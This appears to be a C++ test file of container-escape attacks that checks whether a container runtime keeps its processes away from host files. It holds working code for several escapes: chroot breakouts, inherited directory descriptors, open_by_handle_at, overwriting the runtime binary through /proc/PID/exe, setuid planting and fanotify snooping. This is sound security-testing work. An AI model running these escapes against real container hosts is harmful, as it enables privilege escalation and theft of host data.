// SPDX-License-Identifier: MIT
// Attacks on files of the host: most are after /root/secret.
#include <sys/fanotify.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>

#include <array>
#include <csignal>

#include "tests/attacks/rig/attack.hpp"

namespace attacks::files {

const Entry kAbsolutePath({
    .name = "absolute-path",
    .title = "read a host file by its absolute path",
    .open = "a path that starts with / starts at the process's own /, which is "
            "the host's: path_resolution(7)",
    .held =
        "chroot(2) made the rootfs its /, and there is no such file in there",
    .attempt = [](const Words&) { read_secret("/root/secret"); },
});

const Entry kDotDot({
    .name = "dot-dot",
    .title = "read a host file by ../../..",
    .open = "the way up ends at the process's own /, which is the host's: "
            "path_resolution(7)",
    .held =
        "\"..\" at / is / again, so from a directory below the rootfs no path "
        "leads above it: path_resolution(7). It takes the chdir(\"/\") after "
        "the chroot, and it is no proof of a jail: see second-chroot",
    .attempt =
        [](const Words&) {
          read_secret("./../../../../../../../../root/secret");
        },
});

const Entry kSecondChroot({
    .name = "second-chroot",
    .title = "leave the chroot by a second chroot",
    .open = "chroot(2) moves / and not the working directory. After one into a "
            "directory below, the working directory is not below / any more, "
            "and \"..\" goes up past it, to the host's own. It takes only "
            "CAP_SYS_CHROOT, which root has",
    .attempt =
        [](const Words&) {
          leave_chroot();
          read_secret("/root/secret");
        },
});

void saved_directory(const Words&) {
  const std::string below = make_directory("below");
  const int old_root = try_open("/", O_DIRECTORY);
  try_to(chroot(below.c_str()), "chroot", below);
  try_to(chdir("/"), "chdir", "/");
  try_to(fchdir(old_root), "fchdir", "to the / of before");
  read_secret("../../../../../../root/secret");
}

const Entry kSavedDirectory({
    .name = "saved-directory",
    .title = "leave the chroot by a saved directory fd",
    .open = "a descriptor stays good over a chroot(2). After a second one, "
            "fchdir to the old / is outside of the new one, and \"..\" goes up "
            "from there to the host's: chroot(2)",
    .attempt = saved_directory,
});

const Entry kProc1Root({
    .name = "proc-1-root",
    .title = "read a host file below /proc/1/root",
    .open = "PID 1 is the host's init, and its / the host's: proc_pid_root(5). "
            "A container without a /proc mounts one",
    .held = "PID 1 is the container's own init: clone(CLONE_NEWPID). It is in "
            "the same chroot, so its / is the rootfs",
    .attempt =
        [](const Words&) { read_secret(find_proc() + "/1/root/root/secret"); },
});

// Uses a directory descriptor that the runtime's caller had open: openat in
// open(2). Shells and build tools leave such ones.
void inherited_fd(const Words& words) {
  constexpr const char* kPath = "root/secret";
  const int directory = std::stoi(words[0]);
  const int file = openat(directory, kPath, O_RDONLY | O_CLOEXEC);
  read_secret_from(try_to(file, "openat", "fd " + words[0] + ", " + kPath));
}

const Entry kInheritedFd({
    .name = "inherited-fd",
    .title = "use a directory fd inherited from the caller",
    .open = "descriptors pass over clone, chroot and exec unless they are "
            "closed or FD_CLOEXEC, and openat(2) starts at what the descriptor "
            "refers to, whatever / is. runc itself has left one open "
            "(CVE-2024-21626)",
    .prepare = leave_root_open,
    .attempt = inherited_fd,
});

// Uses a directory descriptor of PID 1, not inherited but found in its
// /proc/1/fd: proc_pid_fd(5). PID 1 is the container's init where it has one,
// and else the host's.
const Entry kProc1Fd({
    .name = "proc-1-fd",
    .title = "the same through /proc/1/fd",
    .open = "PID 1 has the directory open, since it had a caller too. "
            "/proc/1/fd/N is no path but the open file itself, and what may "
            "trace PID 1 may follow it: proc_pid_fd(5)",
    .prepare = leave_root_open,
    .attempt =
        [](const Words& words) {
          close(std::stoi(words[0]));
          read_secret(find_proc() + "/1/fd/" + words[0] + "/root/secret");
        },
});

// Opens a file of the host without a path, by its handle: open_by_handle_at(2).
// A handle is little more than an inode number; on ext4 that of / is always 2.
// Here the attacker is told it, as a tmpfs has random ones.

// Its bytes follow the struct.
struct Handle {
  alignas(file_handle)
      std::array<char, sizeof(file_handle) + MAX_HANDLE_SZ> memory{};

  file_handle* get() { return reinterpret_cast<file_handle*>(memory.data()); }
  char* bytes() { return memory.data() + sizeof(file_handle); }
};

// The handle's type, then its bytes.
Words prepare_open_by_handle(Host&) {
  Handle handle;
  handle.get()->handle_bytes = MAX_HANDLE_SZ;
  int mount = 0;
  check(
      name_to_handle_at(
          AT_FDCWD,
          "/root/secret",
          handle.get(),
          &mount,
          /*flags=*/0),
      "name_to_handle_at");
  Words words{std::to_string(handle.get()->handle_type)};
  for (unsigned i = 0; i < handle.get()->handle_bytes; ++i)
    words.push_back(std::to_string(handle.bytes()[i]));
  return words;
}

void open_by_handle(const Words& words) {
  Handle handle;
  handle.get()->handle_type = std::stoi(words[0]);
  handle.get()->handle_bytes = static_cast<unsigned>(words.size() - 1);
  for (size_t i = 1; i < words.size(); ++i)
    handle.bytes()[i - 1] = static_cast<char>(std::stoi(words[i]));
  constexpr int kFlags = O_RDONLY | O_CLOEXEC;
  const int root = check(open("/", kFlags | O_DIRECTORY), "open", "/");
  const int file = open_by_handle_at(root, handle.get(), kFlags);
  read_secret_from(try_to(file, "open_by_handle_at"));
}

const Entry kOpenByHandle({
    .name = "open-by-handle",
    .title = "open a host file by its handle, open_by_handle_at",
    .open = "a handle is looked up in the whole file system that the rootfs is "
            "on, and / does not come into it: open_by_handle_at(2) wants "
            "CAP_DAC_READ_SEARCH",
    .prepare = prepare_open_by_handle,
    .attempt = open_by_handle,
});

// Changes the runtime's own program on the host, which /proc/PID/exe of its
// process in the container leads to: proc_pid_exe(5). Overwriting it takes more
// patience; its mode shows as well that it is within reach.

constexpr mode_t kMode = 0711;

// Another file in its place, as the one that is there is the machine's.
Words prepare_runtime_binary(Host& host) {
  const std::string program = support::read_file(host.runtime);
  check(umount(host.runtime.c_str()), "umount", host.runtime);
  support::write_file(host.runtime, program, 0755);
  return {};
}

std::string effect_of_runtime_binary(Host& host) {
  struct stat program {};
  stat(host.runtime.c_str(), &program);
  return if_so(
      (program.st_mode & 07777U) == kMode,
      "the mode of " + host.runtime + " is 711");
}

const Entry kRuntimeBinary({
    .name = "runtime-binary",
    .title = "fchmod the runtime's binary through /proc/PID/exe",
    .open = "the parent of the command, PID 1 from step 03 on, is the runtime, "
            "and /proc/PID/exe is no path but the program's file itself, on "
            "the host: proc_pid_exe(5). runc runs from a copy for this reason "
            "(CVE-2019-5736)",
    .prepare = prepare_runtime_binary,
    .attempt =
        [](const Words&) {
          const std::string runtime = std::to_string(getppid());
          const int program = try_open(find_proc() + "/" + runtime + "/exe");
          try_to(fchmod(program, kMode), "fchmod", "it to 711");
        },
    .effect = effect_of_runtime_binary,
});

// Writes to the directory that the container was started from. The next
// container of the same image finds it there.

constexpr const char* kPlanted = "/bin/planted";

const Entry kImageWrite({
    .name = "image-write",
    .title = "change a program directory of the image for good",
    .open = "the rootfs is the directory itself and no copy of it, so what one "
            "container writes, the next one runs. Step 13 puts a layer of the "
            "container's own on top: mount(2)",
    .held = "the container writes to a layer of its own, which nobody sees and "
            "which ends with it",
    .attempt =
        [](const Words&) {
          constexpr int kFlags = O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC;
          try_to(open(kPlanted, kFlags, 0755), "open", kPlanted);
        },
    .effect =
        [](Host&) {
          return if_so(
              support::exists(kPlanted) ||
                  support::exists(std::string("/rootfs") + kPlanted),
              "bin of the image has a file more");
        },
});

// Leaves a setuid program where a user of the host can run it: inode(7).

constexpr const char* kSetuid = "/tmp/planted";
constexpr uid_t kHostUser = 1000;

void planted_setuid(const Words&) {
  const std::string program = support::read_file("/bin/attack");
  support::write_file(kSetuid, program, 0755);
  try_to(chmod(kSetuid, 04755), "chmod", "it to 4755");
}

// Runs it as such a user: it says whose rights it has got.
std::string effect_of_planted_setuid(Host&) {
  std::string path = std::string("/rootfs") + kSetuid;
  if (!support::exists(path)) path = kSetuid;
  if (!support::exists(path)) return "";
  support::Process program(
      {.argv = {path, "--whoami"}, .before_exec = [] {
         if (setresgid(kHostUser, kHostUser, kHostUser) == -1) _exit(1);
         if (setresuid(kHostUser, kHostUser, kHostUser) == -1) _exit(1);
       }});
  return if_so(
      program.wait().out == "0\n",
      "user 1000 of the host is root by a program of the container");
}

const Entry kPlantedSetuid({
    .name = "planted-setuid",
    .title = "plant a setuid program that a host user runs",
    .open = "root of the container is root of the host, and so are the files "
            "that it owns. A setuid program gives its owner's rights to all "
            "who can reach it: execve(2), inode(7)",
    .attempt = planted_setuid,
    .effect = effect_of_planted_setuid,
});

// Uses a directory that the container has as standard input: openat in open(2).
const Entry kStdinDirectory({
    .name = "stdin-directory",
    .title = "use a directory that is standard input",
    .open = "the runtime passes on descriptors 0, 1 and 2, and any descriptor "
            "of a directory is a place to start at: openat in open(2)",
    .look_afterwards = true,
    .refusal = "stdin, stdout or stderr: Is a directory",
    .prepare =
        [](Host& host) {
          host.launch.before_exec = [] {
            dup2(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), STDIN_FILENO);
          };
          return Words{};
        },
    .attempt =
        [](const Words&) { inherited_fd({std::to_string(STDIN_FILENO)}); },
});

// Watches the file system that the rootfs is on: fanotify(7). An event has a
// descriptor of the file that somebody opened, wherever it is.

// A host process that opens the secret again and again.
void open_for_ever() {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;) {
    close(open("/root/secret", O_RDONLY | O_CLOEXEC));
    usleep(10'000);
  }
}

Words prepare_fanotify(Host& host) {
  const int group = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY);
  if (group == -1 && errno == ENOSYS) throw Missing{"a kernel with fanotify"};
  check(group, "fanotify_init");
  close(group);
  host.victim = check(fork(), "fork");
  if (host.victim == 0) open_for_ever();
  return {};
}

void watch_files(const Words&) {
  const int group = try_to(
      fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY),
      "fanotify_init");
  constexpr unsigned kFlags = FAN_MARK_ADD | FAN_MARK_FILESYSTEM;
  try_to(
      fanotify_mark(group, kFlags, FAN_OPEN, AT_FDCWD, "/"),
      "fanotify_mark",
      "the file system of /");
  constexpr int kEvents = 20;
  for (int i = 0; i < kEvents; ++i) {
    fanotify_event_metadata event{};
    try_to(read(group, &event, sizeof event), "read", "an event");
    std::array<char, kSecretLength + 1> text{};
    if (pread(event.fd, text.data(), kSecretLength, 0) > 0) tell(text.data());
    close(event.fd);
  }
}

const Entry kFanotify({
    .name = "fanotify",
    .title = "watch which files the host opens, and read them",
    .open = "a mark on a file system is about all of it, also what is outside "
            "of the rootfs, and each event opens the file for the watcher: "
            "fanotify(7) wants CAP_SYS_ADMIN",
    .prepare = prepare_fanotify,
    .attempt = watch_files,
});

}  // namespace attacks::files
